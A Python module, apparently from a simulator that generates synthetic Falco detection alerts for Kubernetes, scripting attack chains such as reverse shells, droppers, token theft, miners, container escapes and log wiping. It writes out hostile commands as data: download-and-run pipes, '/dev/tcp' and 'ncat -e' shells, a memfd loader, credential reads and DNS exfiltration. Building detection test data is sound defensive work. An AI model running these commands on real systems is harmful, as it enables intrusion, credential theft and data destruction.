"""Attack episodes: short ATT&CK-shaped chains from one pod or node, as the official rules see them.

Each episode kind picks a plausible victim (a web pod, a pod engineers also exec into, a CI job,
a brand-new pod the attacker created, a node), then plays the chain with human pauses or
scripted bursts. The rule chosen for every step is the one Falco reports under `rule_matching:
first`, which is why, for instance, a miner dropped into a pod appears as "Drop and execute new
binary in container" rather than the Stratum rule. Some kinds are a single low-priority alert.
"""

from dataclasses import dataclass

import names
from behaviour import Archetype, Ctx, Emit, exec_proc, fetch_rule, main_proc, shell_tty
from cluster import MINUTE, Container, Host, Pod, Workload
from people import LOGIN_USERS, login_shell
from procs import OPEN_TRUNC, OPEN_WRITE, ROOT, Proc, connect, dup2, execve, openat, syscall
from workloads import ALL_CAPS, IMDS_IP, WWW_DATA, api_connect, dropped, imds_connects, ms, secs

WEB_KEYS = ("php-fpm", "wordpress", "doc-converter", "py-api")
HTTP_SERVERS = ("nginx", "httpd", "apache2", "apache", "lighttpd")     # protected shell spawners (stable rule)
MAX_EVENTS = 8                  # an episode is what one short chain shows: 1 to 8 alerts


@dataclass
class Episode:
    kind: str
    start: int
    emits: list
    id: str = ""


# --- footholds -------------------------------------------------------------------------------

def web_worker(ctx):
    """The request-serving process an RCE lands in."""
    master = main_proc(ctx)
    key = ctx.workload.archetype.key
    if key == "php-fpm":
        return master.spawn("php-fpm", master.exepath, master.args, user=WWW_DATA)
    if key == "wordpress":
        return master.spawn("apache2", master.exepath, master.args, user=WWW_DATA)
    return master.spawn(master.name, master.exepath, master.args)


def shell_rule(worker):
    """A shell under an HTTP server is 'Run shell untrusted' (stable); under php-fpm or gunicorn
    the sandbox web-server rule is the first to match."""
    return "Run shell untrusted" if worker.name in HTTP_SERVERS else "Web Server Spawned Shell"


def interactive_shell(ctx, rng, t):
    """`kubectl exec -it` with stolen credentials: the same alert an engineer's session raises."""
    name, path = ctx.workload.archetype.shell
    shell = exec_proc(ctx, name, path, "", tty=shell_tty(rng))
    return shell, [Emit(t, "Terminal shell in container", ctx.container, execve(shell))]


def tool(ctx, name):
    return "/bin/busybox" if ctx.workload.archetype.distro == "alpine" else f"/usr/bin/{name}"


# --- episode kinds ---------------------------------------------------------------------------

def webshell(ctx, rng, t, c2):
    worker = web_worker(ctx)
    rule = shell_rule(worker)
    payload = f"/tmp/.{rng.choice(('ksoftirqd', 'X11-unix-cache', 'font-unix', 'ICE'))}"
    steps = [("-c id", ("id", "/usr/bin/id", "")),
             ("-c uname -a; cat /etc/os-release", ("uname", "/usr/bin/uname", "-a")),
             (f"-c cd /tmp && wget -q http://{c2}/x86_64 -O {payload}", ("wget", "/usr/bin/wget", f"-q http://{c2}/x86_64 -O {payload}")),
             (f"-c chmod +x {payload} && {payload} -c {c2}", None)]
    out = []
    for command, child in steps[: rng.randint(2, 4)]:
        shell = worker.spawn("sh", "/usr/bin/dash", command)
        out.append(Emit(t, rule, ctx.container, execve(shell)))
        t += ms(rng, 2, 40)
        if child is None:
            out.append(Emit(t, "Drop and execute new binary in container", ctx.container,
                            dropped(shell.spawn(payload.rsplit("/", 1)[1], payload, f"-c {c2}", layer="upper", exe=payload), t, rng, (2, 60))))
        elif child[0] == "wget":
            out.append(Emit(t, fetch_rule(ctx, "wget"), ctx.container, execve(shell.spawn(*child))))
        else:
            out.append(Emit(t, "Web Server Spawned Suspicious Child Process", ctx.container, execve(shell.spawn(*child))))
        t += secs(rng, 5, 90)
    return out


def revshell(ctx, rng, t, c2):
    ip, port = c2.split(":")
    worker = web_worker(ctx)
    rule = shell_rule(worker)
    outer = worker.spawn("sh", "/usr/bin/dash", f"-c bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'")
    middle = outer.spawn("bash", "/usr/bin/bash", f"-c bash -i >& /dev/tcp/{ip}/{port} 0>&1")
    interactive = middle.spawn("bash", "/usr/bin/bash", "-i")
    out = [Emit(t, rule, ctx.container, execve(outer)), Emit(t + ms(rng, 1, 5), rule, ctx.container, execve(middle))]
    inner_rule = rule if rule == "Run shell untrusted" else "Web Server Spawned Shell"
    t += ms(rng, 5, 12)
    out.append(Emit(t, inner_rule, ctx.container, execve(interactive)))
    link = connect(interactive, ctx.pod.ip, names.ephemeral_port(rng), ip, int(port))
    out.append(Emit(t + ms(rng, 1, 3), "System procs network activity", ctx.container, link))
    for fd in (0, 1, 2)[: rng.randint(1, 3)]:
        out.append(Emit(t + ms(rng, 3, 6) + fd * 20_000, "Redirect STDOUT/STDIN to Network Connection in Container", ctx.container, dup2(interactive, link, fd)))
    if rng.random() < 0.6:                                      # upgrade to a pty, then look around
        t += secs(rng, 10, 60)
        pty = interactive.spawn("python3", "/usr/bin/python3.11", "-c import pty;pty.spawn('/bin/bash')")
        upgraded = pty.spawn("bash", "/usr/bin/bash", "", tty=34816 + rng.randint(1, 4))
        if rule == "Run shell untrusted":
            out.append(Emit(t, rule, ctx.container, execve(upgraded)))
        t += secs(rng, 3, 30)
        out.append(Emit(t, "Basic Interactive Reconnaissance", ctx.container, execve(upgraded.spawn("id", "/usr/bin/id", ""))))
    return out


def tokentheft(ctx, rng, t, c2):
    shell, out = interactive_shell(ctx, rng, t) if rng.random() < 0.5 else (web_worker(ctx).spawn("sh", "/usr/bin/dash", "-c sh"), [])
    namespace = ctx.workload.namespace
    t += secs(rng, 5, 40)
    curl = shell.spawn("curl", "/usr/bin/curl", "-sk -H 'Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6...' "
                                                f"https://kubernetes.default.svc/api/v1/namespaces/{namespace}/secrets")
    out.append(api_connect(ctx, rng, t, curl))
    t += secs(rng, 10, 90)
    fetch = shell.spawn("curl", "/usr/bin/curl", "-sSL -o /tmp/kubectl https://dl.k8s.io/release/v1.31.2/bin/linux/amd64/kubectl")
    out.append(Emit(t, fetch_rule(ctx, "curl"), ctx.container, execve(fetch)))
    for args in ("auth can-i --list", "get secrets -A -o json", f"get pods -n {namespace} -o wide")[: rng.randint(1, 3)]:
        t += secs(rng, 8, 60)
        kubectl = shell.spawn("kubectl", "/tmp/kubectl", args, layer="upper", exe="/tmp/kubectl", cwd="/tmp")
        out.append(Emit(t, "Drop and execute new binary in container", ctx.container, dropped(kubectl, t, rng, (10, 120))))
        out.append(api_connect(ctx, rng, t + ms(rng, 20, 200), kubectl))
    return out


def credaccess(ctx, rng, t, c2):
    shell, out = interactive_shell(ctx, rng, t)
    steps = [("cat", "/etc/shadow", "Read sensitive file untrusted"),
             ("grep", '-rIl "BEGIN RSA PRIVATE KEY" /app /root /home /etc', "Search Private Keys or Passwords"),
             ("find", "/ -name id_rsa -o -name id_ed25519 -o -name *.pem", "Search Private Keys or Passwords"),
             ("grep", "-ri aws_secret_access_key /app /root /home", "Find AWS Credentials"),
             ("cat", "/proc/1/environ", "Read environment variable from /proc files"),
             ("curl", f"-s http://{IMDS_IP}/latest/meta-data/iam/security-credentials/", "imds")]
    for name, args, rule in rng.sample(steps, rng.randint(2, 5)):
        t += secs(rng, 4, 70)
        proc = shell.spawn(name, tool(ctx, name), args)
        if rule == "imds":
            out += imds_connects(ctx, rng, t, proc)
        elif name == "cat":
            if args == "/etc/shadow" and proc.user.uid != 0:
                continue                                        # EACCES: a failed open is not an open_read
            out.append(Emit(t, rule, ctx.container, openat(proc, args)))
        else:
            out.append(Emit(t, rule, ctx.container, execve(proc)))
    return out


def persist(ctx, rng, t, c2):
    shell, out = interactive_shell(ctx, rng, t)
    implant = f"/usr/bin/{rng.choice(('dbus-daemon-helper', 'systemd-journal-sync', 'kthreadd-update'))}"
    steps = [
        lambda t: [Emit(t, "Write below etc", ctx.container, openat(shell, "/etc/passwd", "O_WRONLY|O_CREAT|O_APPEND"))],
        lambda t: [Emit(t, "Schedule Cron Jobs", ctx.container, execve(shell.spawn("crontab", "/usr/bin/crontab", "-")))],
        lambda t: [Emit(t, "Modify Shell Configuration File", ctx.container,
                        openat(shell.spawn("tee", "/usr/bin/tee", "-a /root/.bashrc"), "/root/.bashrc", OPEN_WRITE))],
        lambda t: [Emit(t, "Write below binary dir", ctx.container,
                        openat(shell.spawn("cp", "/usr/bin/cp", f"/tmp/.x {implant}"), implant, OPEN_TRUNC))],
        lambda t: [Emit(t, "Set Setuid or Setgid bit", ctx.container,
                        syscall(shell.spawn("chmod", "/usr/bin/chmod", f"u+s {implant}"), "fchmodat",
                                **{"evt.arg.filename": implant, "evt.arg.fd": None,
                                   "evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"}))],
        lambda t: [Emit(t, "Mkdir binary dirs", ctx.container,
                        syscall(shell.spawn("mkdir", "/usr/bin/mkdir", "-p /usr/bin/.cache"), "mkdirat", **{"evt.arg.path": "/usr/bin/.cache"}))],
    ]
    for step in rng.sample(steps, rng.randint(2, 4)):
        t += secs(rng, 5, 80)
        out += step(t)
    return out


def miner(ctx, rng, t, c2):
    """Either a pod the attacker created from a public image, or a dropped binary in a victim."""
    pool = rng.choice(("pool.supportxmr.com:3333", "xmr.2miners.com:2222", "gulf.moneroocean.stream:10128", "pool.hashvault.pro:443"))
    wallet = "4" + names.pick(rng, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 94)
    if ctx.pod.extra.get("attacker_image") == "miner":
        out = []
        miner_proc = main_proc(ctx).with_(args=f"-o stratum+tcp://{pool} -u {wallet} -p x --donate-level 1 --max-cpu-usage 90")
        out.append(Emit(t, "Detect crypto miners using the Stratum protocol", ctx.container, execve(miner_proc)))
        for _ in range(rng.randint(0, 3)):                     # OOM-killed and restarted with its config file
            t += secs(rng, 120, 600)
            out.append(Emit(t, "Known Cryptominer Process Executed", ctx.container, execve(main_proc(ctx).with_(args="-c /config.json"))))
        return out
    if ctx.pod.extra.get("attacker_image"):                  # kubectl exec <pod> -- sh -c '...' (no terminal)
        shell = exec_proc(ctx, "sh", "/usr/bin/dash", "-c apt-get update -qq && apt-get install -y -qq wget ca-certificates && sh /tmp/i.sh")
    else:
        shell = web_worker(ctx).spawn("sh", shell_binary(ctx), f"-c wget -q http://{c2}/i.sh -O- | sh")
    out = []
    if ctx.pod.extra.get("attacker_image"):
        for args in ("update -qq", "install -y -qq wget ca-certificates"):
            out.append(Emit(t, "Launch Package Management Process in Container", ctx.container,
                            execve(shell.spawn("apt-get", "/usr/bin/apt-get", args))))
            t += secs(rng, 4, 30)
    target = f"/tmp/.{rng.choice(('cache', 'x', 'systemd'))}/{rng.choice(('xmrig', 'kswapd0', 'kdevtmpfsi'))}"
    out.append(Emit(t, fetch_rule(ctx, "wget"), ctx.container,
                    execve(shell.spawn("wget", "/usr/bin/wget", f"-q http://{c2}/xmrig-6.22.2-linux-static-x64.tar.gz -O /tmp/x.tgz"))))
    t += secs(rng, 3, 20)
    binary = shell.spawn(target.rsplit("/", 1)[1], target, f"-o stratum+tcp://{pool} -u {wallet} -p {ctx.pod.name} -B",
                         layer="upper", exe=target)
    out.append(Emit(t, "Drop and execute new binary in container", ctx.container, dropped(binary, t, rng, (1, 15))))
    return out


def fileless(ctx, rng, t, c2):
    foothold = web_worker(ctx).spawn("sh", "/usr/bin/dash", "-c python3 -c \"$(echo aW1wb3J0IG9z... | base64 -d)\"")
    loader = foothold.spawn("python3", "/usr/local/bin/python3.12",
                            "-c import os,urllib.request as u;f=os.memfd_create('',1);os.write(f,u.urlopen('http://" + c2 +
                            "/k').read());os.execv('/proc/self/fd/%d'%f,['[kworker/u8:3]'])")
    implant = loader.with_(name="3", exepath="/memfd: (deleted)", args="", layer="memfd", exe="/proc/self/fd/3")
    out = [Emit(t, "Fileless execution via memfd_create", ctx.container, execve(implant))]
    if rng.random() < 0.6:
        out.append(Emit(t + ms(rng, 5, 200), "PTRACE anti-debug attempt", ctx.container,
                        syscall(implant, "ptrace", **{"evt.arg.request": "PTRACE_TRACEME"})))
    return out


def pkgtools(ctx, rng, t, c2):
    """The same first steps as an engineer's debugging session, then scanning and a netcat shell."""
    shell, out = interactive_shell(ctx, rng, t)
    t += secs(rng, 4, 30)
    out.append(Emit(t, "Basic Interactive Reconnaissance", ctx.container, execve(shell.spawn("id", tool(ctx, "id"), ""))))
    installs = {"apk": [("apk", "/sbin/apk", "add nmap nmap-ncat")],
                "microdnf": [("microdnf", "/usr/bin/microdnf", "install -y nmap nmap-ncat")]}.get(
        ctx.workload.archetype.pkg, [("apt-get", "/usr/bin/apt-get", "update"), ("apt-get", "/usr/bin/apt-get", "install -y nmap ncat")])
    for name, path, args in installs:
        t += secs(rng, 5, 40)
        out.append(Emit(t, "Launch Package Management Process in Container", ctx.container, execve(shell.spawn(name, path, args))))
    t += secs(rng, 20, 120)
    subnet = ".".join(ctx.pod.ip.split(".")[:2]) + ".0.0/16"
    nmap = shell.spawn("nmap", "/usr/bin/nmap", f"-sT -Pn -T4 -p 22,80,443,2379,5432,6379,10250 --open {subnet}")
    out.append(Emit(t, "Launch Suspicious Network Tool in Container", ctx.container, execve(nmap)))
    if rng.random() < 0.7:
        ip, port = c2.split(":")
        t += secs(rng, 30, 300)
        out.append(Emit(t, "Netcat Remote Code Execution in Container", ctx.container,
                        execve(shell.spawn("ncat", "/usr/bin/ncat", f"{ip} {port} -e /bin/bash"))))
    if rng.random() < 0.5:
        t += secs(rng, 10, 120)
        rm = shell.spawn("rm", tool(ctx, "rm"), "-f /root/.bash_history")
        out.append(Emit(t, "Delete or rename shell history", ctx.container,
                        syscall(rm, "unlinkat", **{"evt.arg.name": "/root/.bash_history", "fd.name": "/root/.bash_history"})))
    return out


def apiabuse(ctx, rng, t, c2):
    """Abusing the API with a kubectl that is already in the image (a deploy job or housekeeping pod)."""
    shell = main_proc(ctx)
    out = []
    kubectl_path = main_proc(ctx).exepath if main_proc(ctx).name == "kubectl" else "/opt/bitnami/kubectl/bin/kubectl"
    for args in ("auth can-i --list", "get secrets -A", "get nodes -o wide",
                 "run dbg --image=alpine --overrides={\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"d\",\"image\":\"alpine\",\"securityContext\":{\"privileged\":true}}]}}")[: rng.randint(2, 4)]:
        kubectl = shell.spawn("kubectl", kubectl_path, args)
        out.append(Emit(t, "Kubernetes Client Tool Launched in Container", ctx.container, execve(kubectl)))
        out.append(api_connect(ctx, rng, t + ms(rng, 20, 300), kubectl))
        t += secs(rng, 3, 45)
    return out


def escape(ctx, rng, t, c2):
    """A privileged pod the attacker created, used to reach the node."""
    first = main_proc(ctx)
    out = [Emit(t, "Launch Privileged Container", ctx.container, execve(first))]
    t += secs(rng, 20, 120)
    shell = exec_proc(ctx, "sh", "/bin/busybox", "", tty=shell_tty(rng))
    out.append(Emit(t, "Terminal shell in container", ctx.container, execve(shell)))
    steps = ["nsenter", "mount", "device", "release_agent", "debugfs", "kmod", "hostfile"]
    for step in rng.sample(steps, rng.randint(2, 4)):
        t += secs(rng, 5, 60)
        if step == "nsenter":
            nsenter = shell.spawn("nsenter", "/bin/busybox", "-t 1 -m -u -i -n sh")
            out += [Emit(t + i * 30_000, "Change thread namespace", ctx.container, syscall(nsenter, "setns")) for i in range(rng.randint(1, 4))]
        elif step == "mount":
            out.append(Emit(t, "Mount Launched in Privileged Container", ctx.container, execve(shell.spawn("mount", "/bin/busybox", "/dev/nvme0n1p1 /mnt"))))
        elif step == "device":
            fdisk = shell.spawn("fdisk", "/bin/busybox", "-l /dev/nvme0n1")
            out.append(Emit(t, "Privileged Container Device Access", ctx.container, openat(fdisk, "/dev/nvme0n1")))
        elif step == "release_agent":
            agent = "/tmp/cgrp/release_agent"
            values = openat(shell, agent, OPEN_TRUNC)
            values["thread.cap_effective"] = ALL_CAPS
            out.append(Emit(t, "Detect release_agent File Container Escapes", ctx.container, values))
        elif step == "debugfs":
            out.append(Emit(t, "Debugfs Launched in Privileged Container", ctx.container,
                            execve(shell.spawn("debugfs", "/sbin/debugfs", "-w /dev/nvme0n1p1"))))
        elif step == "kmod":
            insmod = shell.spawn("insmod", "/bin/busybox", "/tmp/.k/nfs_helper.ko")
            values = syscall(insmod, "finit_module", **{"thread.cap_effective": ALL_CAPS})
            out.append(Emit(t, "Linux Kernel Module Injection Detected", ctx.container, values))
        else:
            path = rng.choice(("/host/etc/shadow", "/host/root/.ssh/authorized_keys", "/host/etc/kubernetes/admin.conf"))
            out.append(Emit(t, "Container Access to Host Sensitive Paths", ctx.container, openat(shell.spawn("cat", "/bin/busybox", path), path)))
    return out


def nodeintrusion(node, cluster, rng, t, c2):
    """Stolen ssh credentials on a node: credentials, a backdoor user and key, cover tracks."""
    login, uid = LOGIN_USERS.get(cluster.provider, ("ops", 1000))
    shell = login_shell(cluster, rng, login, uid, tty=34817)
    root = shell.spawn("sudo", "/usr/bin/sudo", "-i", user=ROOT).spawn("bash", "/usr/bin/bash", "", user=ROOT)
    host = Host(node)
    steps = [
        lambda t: [Emit(t, "Read sensitive file untrusted", host, openat(root.spawn("cat", "/usr/bin/cat", "/etc/shadow"), "/etc/shadow"))],
        lambda t: [Emit(t, "User mgmt binaries", host, execve(root.spawn("useradd", "/usr/sbin/useradd", "-m -s /bin/bash -G sudo sysupdate")))],
        lambda t: [Emit(t, "Adding ssh keys to authorized_keys", host, openat(root, "/root/.ssh/authorized_keys", OPEN_WRITE))],
        lambda t: [Emit(t, "Schedule Cron Jobs", host, execve(root.spawn("crontab", "/usr/bin/crontab", "-")))],
        lambda t: [Emit(t, "Launch Suspicious Network Tool on Host", host, execve(root.spawn("nc", "/usr/bin/nc.openbsd", f"-w 3 {c2.split(':')[0]} 443")))],
        lambda t: [Emit(t, "Create files below dev", host, openat(root.spawn("cp", "/usr/bin/cp", "/tmp/.s /dev/.udevd-cache"), "/dev/.udevd-cache", "O_WRONLY|O_CREAT|O_TRUNC"))],
        lambda t: [Emit(t, "BPF Program Not Profiled", host, syscall(root.spawn("kworker-helper", "/dev/.udevd-cache", "", layer="host"), "bpf", **{"evt.arg.cmd": "BPF_PROG_LOAD"}))],
    ]
    out = []
    for step in rng.sample(steps, rng.randint(2, 5)):
        t += secs(rng, 5, 90)
        out += step(t)
    if rng.random() < 0.7:                                      # cover tracks
        t += secs(rng, 10, 60)
        out.append(Emit(t, "Clear Log Activities", host, openat(root.spawn("cp", "/usr/bin/cp", "/dev/null /var/log/auth.log"), "/var/log/auth.log", OPEN_TRUNC)))
        out.append(Emit(t + secs(rng, 1, 10), "Delete or rename shell history", host,
                        syscall(root.spawn("rm", "/usr/bin/rm", "-f /root/.bash_history"), "unlinkat",
                                **{"evt.arg.name": "/root/.bash_history", "fd.name": "/root/.bash_history"})))
    return out


def privesc(ctx, rng, t, c2):
    """Local privilege escalation attempts by a non-root foothold."""
    shell = web_worker(ctx).spawn("sh", "/usr/bin/dash", "-c sh -i")
    exploit = shell.spawn("exp", "/tmp/exp", "", layer="upper", exe="/tmp/exp")
    steps = [
        lambda t: [Emit(t, "Sudo Potential Privilege Escalation", ctx.container, execve(shell.spawn("sudoedit", "/usr/bin/sudo", "-s \\ " + "A" * 64)))],
        lambda t: [Emit(t, "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", ctx.container, execve(shell.spawn("pkexec", "/usr/bin/pkexec", "")))],
        lambda t: [Emit(t, "Potential Local Privilege Escalation via Environment Variables Misuse", ctx.container,
                        execve(shell.spawn("su", "/usr/bin/su", "--help", env="GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAAAAAAAAAA PATH=/usr/bin:/bin")))],
        lambda t: [Emit(t, "Change namespace privileges via unshare", ctx.container,
                        syscall(shell.spawn("unshare", "/usr/bin/unshare", "-Urm"), "unshare", **{"thread.cap_permitted": ""}))],
        lambda t: [Emit(t, "Drop and execute new binary in container", ctx.container, dropped(exploit, t, rng, (5, 60))),
                   Emit(t + ms(rng, 1, 30), "Unprivileged Delegation of Page Faults Handling to a Userspace Process", ctx.container,
                        syscall(exploit, "userfaultfd", res="4"))],
        lambda t: [Emit(t, "Non sudo setuid", ctx.container, syscall(exploit, "setuid", res="EPERM", **{"evt.arg.uid": "0(root)"}))],
    ]
    out = []
    for step in rng.sample(steps, rng.randint(1, 3)):
        t += secs(rng, 10, 120)
        out += step(t)
    return out


def exfil(ctx, rng, t, c2):
    ip = c2.split(":")[0]
    out = []
    if rng.random() < 0.5:                                      # kubectl cp with stolen credentials
        base = ctx.params.get("data_dir", "/app")
        tar = exec_proc(ctx, "tar", tool(ctx, "tar"), f"cf - {base}")
        for name in rng.sample(("config/secrets.yaml", "config/database.yml", ".env", "credentials.json", "db/dump.sql.gz", "keys/jwt.pem"), rng.randint(2, 5)):
            out.append(Emit(t, "Exfiltrating Artifacts via Kubernetes Control Plane", ctx.container, openat(tar, f"{base}/{name}")))
            t += ms(rng, 5, 400)
        return out
    shell, out = interactive_shell(ctx, rng, t)
    t += secs(rng, 20, 200)
    port = rng.choice((443, 8080, 80))
    scp = shell.spawn("scp", "/usr/bin/scp", f"-P {port} /tmp/dump.tgz backup@{ip}:/srv/in/")
    out.append(Emit(t, "Launch Remote File Copy Tools in Container", ctx.container, execve(scp)))
    ssh = scp.spawn("ssh", "/usr/bin/ssh", f"-x -oPermitLocalCommand=no -oClearAllForwardings=yes -p {port} -l backup -s -- {ip} sftp")
    out.append(Emit(t + ms(rng, 5, 40), "Disallowed SSH Connection Non Standard Port", ctx.container,
                    connect(ssh, ctx.pod.ip, names.ephemeral_port(rng), ip, port)))
    return out


def logwipe(ctx, rng, t, c2):
    shell, out = interactive_shell(ctx, rng, t)
    logs = rng.sample(("/var/log/apache2/access.log", "/var/log/apache2/error.log", "/var/log/nginx/access.log", "/var/log/app/app.log"), 2)
    t += secs(rng, 5, 40)
    out.append(Emit(t, "Clear Log Activities", ctx.container, openat(shell, logs[0], OPEN_TRUNC)))
    t += secs(rng, 2, 20)
    out.append(Emit(t, "Remove Bulk Data from Disk", ctx.container, execve(shell.spawn("shred", "/usr/bin/shred", f"-u -z {logs[1]}"))))
    if rng.random() < 0.6:
        rm = shell.spawn("rm", tool(ctx, "rm"), "-f /root/.bash_history")
        out.append(Emit(t + secs(rng, 1, 20), "Delete or rename shell history", ctx.container,
                        syscall(rm, "unlinkat", **{"evt.arg.name": "/root/.bash_history", "fd.name": "/root/.bash_history"})))
    return out


def stealth(ctx, rng, t, c2):
    """One low-priority alert and nothing else: the part of an intrusion Falco happens to see."""
    app = main_proc(ctx)
    variants = ["apiprobe", "udp"] + (["imds"] if ctx.cluster.imds else [])
    if ctx.workload.archetype.shell:
        variants += ["b64", "portscan", "wget", "recon"]
    variant = rng.choice(variants)
    if variant == "imds":                                       # SSRF to the metadata service
        return imds_connects(ctx, rng, t, app)
    if variant == "apiprobe":
        return [api_connect(ctx, rng, t, app)]
    if variant == "udp":
        ip = names.public_ip(rng)
        return [Emit(t, "Unexpected UDP Traffic", ctx.container, connect(app, ctx.pod.ip, names.ephemeral_port(rng), ip, rng.choice((5353, 1194 + 7, 4789, 9999)), proto="udp"))]
    if variant == "recon":
        shell, _ = interactive_shell(ctx, rng, t)
        return [Emit(t + secs(rng, 2, 20), "Basic Interactive Reconnaissance", ctx.container, execve(shell.spawn("whoami", tool(ctx, "whoami"), "")))]
    rce = app.spawn("sh", shell_binary(ctx), f"-c echo {names.pick(rng, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 56)}= | base64 -d | sh")
    if variant == "b64":
        return [Emit(t, "Decoding Payload in Container", ctx.container, execve(rce.spawn("base64", tool(ctx, "base64"), "-d")))]
    if variant == "portscan":
        return [Emit(t, "Launch Suspicious Network Tool in Container", ctx.container,
                     execve(rce.spawn("nc", tool(ctx, "nc"), f"-zv -w 1 {ctx.cluster.api_ip.rsplit('.', 2)[0]}.0.10 1-1024")))]
    return [Emit(t, fetch_rule(ctx, "wget"), ctx.container, execve(rce.spawn("wget", tool(ctx, "wget"), f"-q http://{c2}/s -O /tmp/s")))]


def shell_binary(ctx):
    return "/bin/busybox" if ctx.workload.archetype.distro in ("alpine", "distroless") else "/usr/bin/dash"


def npmsupply(ctx, rng, t, c2):
    """A compromised dependency's postinstall script inside a CI job: blends into CI noise."""
    shell = Proc("bash", "/usr/bin/bash", "", cwd=f"/builds/{ctx.pod.extra['group']}/{ctx.pod.extra['project']}",
                 ancestors=ctx.cluster.ancestry(ctx.container))
    npm = shell.spawn("npm", "/usr/local/lib/node_modules/npm/bin/npm-cli.js", "ci --no-audit --prefer-offline")
    node = npm.spawn("sh", "/usr/bin/dash", "-c node scripts/postinstall.js").spawn("node", "/usr/local/bin/node", "scripts/postinstall.js")
    payload = "/tmp/.npm-cache/update"
    out = [Emit(t, fetch_rule(ctx, "curl"), ctx.container, execve(node.spawn("curl", "/usr/bin/curl", f"-s -o {payload} http://{c2}/u")))]
    t += secs(rng, 1, 6)
    out.append(Emit(t, "Drop and execute new binary in container", ctx.container,
                    dropped(node.spawn("update", payload, "", layer="upper", exe=payload), t, rng, (1, 6))))
    if rng.random() < 0.7:
        exfil = f"{names.hex_string(rng, 32)}.{names.hex_string(rng, 6)}.t.{rng.choice(('oast.fun', 'dnslog.cn', 'burpcollaborator.net'))}"
        out.append(Emit(t + ms(rng, 100, 3000), "Launch Suspicious Network Tool in Container", ctx.container,
                        execve(node.spawn("dig", "/usr/bin/dig", f"+short {exfil}"))))
    out += imds_connects(ctx, rng, t + ms(rng, 300, 5000), node, count=rng.randint(0, 2))
    return out


def ptrace_inject(ctx, rng, t, c2):
    shell, out = interactive_shell(ctx, rng, t)
    t += secs(rng, 10, 120)
    gdb = shell.spawn("gdb", "/usr/bin/gdb", "-p 1 -batch -ex 'call (int)system(\"/tmp/.x &\")'")
    out += [Emit(t + i * ms(rng, 0, 3), "PTRACE attached to process", ctx.container,
                 syscall(gdb, "ptrace", **{"evt.arg.request": rng.choice(("PTRACE_ATTACH", "PTRACE_POKEDATA", "PTRACE_SETREGS"))}))
            for i in range(rng.randint(2, 3))]
    return out


def symlink(ctx, rng, t, c2):
    """Exposing /etc/shadow through the document root, then fetching it over HTTP."""
    worker = web_worker(ctx)
    shell = worker.spawn("sh", "/usr/bin/dash", f"-c ln -s /etc/shadow {ctx.workload.archetype.cwd}/uploads/s.txt")
    ln = shell.spawn("ln", "/usr/bin/ln", f"-s /etc/shadow {ctx.workload.archetype.cwd}/uploads/s.txt")
    out = [Emit(t, "Create Symlink Over Sensitive Files", ctx.container,
                syscall(ln, "symlinkat", **{"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": f"{ctx.workload.archetype.cwd}/uploads/s.txt"}))]
    if worker.user.uid == 0:                                   # as www-data the read fails, and failed opens do not match
        rule = "Read sensitive file trusted after startup" if worker.name in HTTP_SERVERS else "Read sensitive file untrusted"
        out.append(Emit(t + secs(rng, 5, 60), rule, ctx.container, openat(worker, "/etc/shadow")))
    return out


def devshm(ctx, rng, t, c2):
    shell, out = interactive_shell(ctx, rng, t)
    t += secs(rng, 10, 90)
    payload = f"/dev/shm/.{names.pick(rng, names.LOWER_ALNUM, 6)}"
    proc = shell.spawn(payload.rsplit("/", 1)[1], payload, f"{c2}", layer="tmpfs", exe=payload, cwd="/dev/shm")
    out.append(Emit(t, "Execution from /dev/shm", ctx.container, execve(proc, **{"fd.name": None})))
    return out


def traversal(ctx, rng, t, c2):
    """Path traversal probes against a PHP endpoint; some paths do not exist (ENOENT still matches)."""
    worker = web_worker(ctx)
    root = ctx.workload.archetype.cwd
    out = []
    for depth in rng.sample((3, 4, 5, 6, 8), rng.randint(1, 4)):
        target = rng.choice(("/etc/passwd", "/etc/shadow", "/etc/hosts", "/root/.ssh/id_rsa"))
        raw = f"{root}/{'../' * depth}{target.lstrip('/')}"
        failed = target == "/etc/shadow" and worker.user.uid != 0 or target == "/root/.ssh/id_rsa"
        values = openat(worker, target, raw=raw, res="ENOENT" if target == "/root/.ssh/id_rsa" else ("EACCES" if failed else "SUCCESS"))
        out.append(Emit(t, "Directory traversal monitored file read", ctx.container, values))
        t += ms(rng, 40, 3000)
    return out


# --- choosing victims and placing episodes ---------------------------------------------------

def is_web(pod):
    return pod.workload.archetype.key in WEB_KEYS


def has_shell(pod):
    return pod.workload.archetype.shell is not None and pod.workload.kind in ("Deployment", "StatefulSet")


def runs_python(pod):
    return pod.workload.archetype.key in ("py-api", "doc-converter")


def ci_node_job(pod):
    return pod.workload.archetype.key == "gitlab-job" and pod.extra.get("job") == "node-build"


def kubectl_pod(pod):
    return pod.workload.archetype.key == "kubectl-cleanup" or (pod.workload.archetype.key == "gitlab-job" and pod.extra.get("job") == "deploy")


def any_app(pod):
    return pod.workload.kind in ("Deployment", "StatefulSet") and pod.workload.archetype.key not in ("cilium", "aws-node")


# kind: (function, victims: a pod filter, "node" or "new-..." for a pod the attacker creates, weight,
#        minutes the victim must stay alive for the chain to play out)
KINDS = {
    "webshell": (webshell, is_web, 3, 10),
    "revshell": (revshell, is_web, 2.5, 10),
    "tokentheft": (tokentheft, lambda p: has_shell(p) and p.workload.archetype.distro != "alpine", 2, 10),
    "credaccess": (credaccess, has_shell, 2.5, 10),
    "persist": (persist, lambda p: has_shell(p) and p.workload.archetype.user.uid == 0, 1.5, 10),
    "miner": (miner, "new-miner", 1.5, 0),
    "dropper": (miner, lambda p: has_shell(p) and p.workload.archetype.distro != "alpine", 1.2, 5),
    "fileless": (fileless, runs_python, 1.2, 5),
    "pkgtools": (pkgtools, has_shell, 2.5, 15),
    "apiabuse": (apiabuse, kubectl_pod, 1.2, 2),
    "escape": (escape, "new-privileged", 1.2, 0),
    "nodeintr": (nodeintrusion, "node", 1.2, 0),
    "privesc": (privesc, is_web, 1.2, 10),
    "exfil": (exfil, has_shell, 1.5, 10),
